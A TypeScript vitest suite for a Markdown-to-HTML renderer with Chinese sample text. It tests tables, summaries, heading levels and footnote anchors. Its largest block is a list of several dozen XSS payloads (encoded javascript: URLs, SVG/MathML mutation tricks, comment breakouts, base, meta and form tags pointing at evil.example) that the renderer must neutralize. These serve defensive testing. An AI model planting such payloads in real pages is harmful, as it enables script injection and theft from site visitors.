import { describe, expect, test } from 'vitest';
import { scanHtml } from '@/lib/audit/scan';
import { renderMarkdown, renderMarkdownFiles, summarize } from '@/lib/content/markdown';

describe('renderMarkdown', () => {
  test('renders Markdown, GFM tables included', () => {
    const { html } = renderMarkdown('**粗体**\n\n| a | b |\n| - | - |\n| 1 | 2 |');
    expect(html).toContain('<strong>粗体</strong>');
    expect(html).toContain('<table>');
  });

  test('keeps harmless raw HTML from archives', () => {
    expect(renderMarkdown('<p>旧稿<br>第二行</p>').html).toBe('<p>旧稿<br>第二行</p>');
  });

  test.each([
    ['<script>alert(1)</script>正文', '<script'],
    ['<p onclick="alert(1)">x</p>', 'onclick'],
    ['<img src="x.png" onerror="alert(1)">', 'onerror'],
    ['<a href="javascript:alert(1)">x</a>', 'javascript:'],
    ['[x](javascript:alert(1))', 'javascript:'],
    ['<a href="JaVaScRiPt:alert(1)">x</a>', 'alert'],
    ['<iframe src="https://evil.example/"></iframe>', 'iframe'],
    ['<style>body{display:none}</style>', 'display:none'],
    ['<img src="data:image/svg+xml;base64,PHN2Zz4=">', 'data:'],
    ['<svg><script>alert(1)</script></svg>', 'alert'],
    ['<p style="background:url(javascript:alert(1))">x</p>', 'javascript'],
    ['<object data="x.swf"></object><embed src="x.swf">', 'swf'],
    ['<form action="https://evil.example"><input name="p"></form>', 'evil'],
  ])('makes %s safe', (input, forbidden) => {
    expect(renderMarkdown(input).html.toLowerCase()).not.toContain(forbidden.toLowerCase());
  });

  test('plain text for summaries has no markup', () => {
    expect(renderMarkdown('# 标题\n\n第一段 **重点**。\n\n<script>x()</script>').text).toBe('标题 第一段 重点。');
  });
});

describe('summarize', () => {
  test('short text is kept whole', () => {
    expect(summarize('一句话。', 120)).toBe('一句话。');
  });

  test('long text ends at a full stop near the limit', () => {
    const text = `${'甲'.repeat(80)}。${'乙'.repeat(80)}`;
    expect(summarize(text, 120)).toBe(`${'甲'.repeat(80)}。`);
  });

  test('without a sentence end it is cut with an ellipsis', () => {
    expect(summarize('丙'.repeat(200), 120)).toBe(`${'丙'.repeat(120)}…`);
  });
});

describe('fitting the body into the page', () => {
  test('body headings move one level down: the page title is the only h1', () => {
    expect(renderMarkdown('# 大标题\n\n## 小标题\n\n###### 最小').html).toBe('<h2>大标题</h2>\n<h3>小标题</h3>\n<h6>最小</h6>');
  });

  test('tables are wrapped so that they scroll on a phone', () => {
    expect(renderMarkdown('| a |\n| - |\n| 1 |').html).toMatch(/^<div class="table-scroll"><table>/);
  });
});

describe('in-page links and footnotes', () => {
  const hrefsAndIds = (html: string) => ({
    hrefs: [...html.matchAll(/href="#([^"]+)"/g)].map((m) => m[1]),
    ids: new Set([...html.matchAll(/id="([^"]+)"/g)].map((m) => m[1])),
  });

  test('every footnote link reaches its target, ids prefixed once', () => {
    const { html } = renderMarkdown('正文[^1]，另见[^note]。\n\n[^1]: 第一条注释。\n[^note]: 第二条。');
    const { hrefs, ids } = hrefsAndIds(html);
    expect(hrefs.length).toBe(4);
    for (const href of hrefs) expect(ids.has(href), href).toBe(true);
    expect([...ids].every((id) => id.startsWith('user-content-') && !id.startsWith('user-content-user-content-'))).toBe(true);
    expect(html).toContain('注释');
  });

  test('raw HTML anchors reach their prefixed targets; a body cannot claim the page id "main"', () => {
    const { html } = renderMarkdown('<p id="main">甲</p>\n\n<a href="#main">回到甲</a> <a href="#nowhere">无</a>');
    expect(html).toContain('id="user-content-main"');
    expect(html).toContain('href="#user-content-main"');
    expect(html).toContain('href="#nowhere"');
  });

  test('footnote markers and the footnote list stay out of the plain text', () => {
    expect(renderMarkdown('正文[^1]。\n\n[^1]: 注释内容。').text).toBe('正文。');
  });
});

describe('renderMarkdown against hostile input', () => {
  // Each input is an attack on the page or a feed reader; the output is checked with the
  // post-build audit's own tokenizer (src/lib/audit/scan.ts), as a browser would read it.
  const ATTACKS = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '[x](javascript:alert(1))',
    '[x](JAVASCRIPT:alert(1))',
    '![x](javascript:alert(1))',
    '[x]: javascript:alert(1)\n\n[y][x]',
    '<https://example.org/"onmouseover="alert(1)>',
    '<svg onload=alert(1)><script>alert(2)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
    '<p style="width:expression(alert(1))">x</p>',
    '<div style="background:url(&#106;avascript:alert(1))">x</div>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">x</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '</div></article></main><script>alert(1)</script>',
    '<!--><script>alert(1)</script>-->',
    '<!-- --!><script>alert(1)</script> -->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<<script>script>alert(1)<</script>/script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea></textarea><script>alert(1)</script>',
    '<title></title><script>alert(1)</script>',
    '<template><script>alert(1)</script></template>',
    '<video><source onerror=alert(1)></video>',
    '<a id="__proto__" name="constructor">clobber</a>',
    '<img src="x" alt="a"onerror="alert(1)">',
    '<a href="https://example.org" target="_blank">ok</a>',
  ];

  test.each(ATTACKS)('%s', (input) => {
    const { html } = renderMarkdown(`正文\n\n${input}\n\n结尾`);
    const scan = scanHtml(html);
    expect(scan.unsafe).toEqual([]);
    expect(scan.inlineScripts).toEqual([]);
    expect(html).not.toMatch(/<(script|style|iframe|object|embed|base|meta|link|form|svg|math|template)\b/i);
    expect(html).toContain('结尾');
  });
});

describe('renderMarkdownFiles', () => {
  test('renders each body in order, as renderMarkdown does', () => {
    const files = [
      { file: 'content/news/a.md', body: '# 甲' },
      { file: 'content/news/b.md', body: '**乙**' },
    ];
    expect(renderMarkdownFiles(files)).toEqual(files.map(({ body }) => renderMarkdown(body)));
  });

  test('an error names the file', () => {
    // Not a string: the parser throws, as it would on a body it cannot read.
    const files = [
      { file: 'content/news/a.md', body: '# 甲' },
      { file: 'content/news/b.md', body: 42 as unknown as string },
    ];
    expect(() => renderMarkdownFiles(files)).toThrow(/^content\/news\/b\.md: /);
  });
});
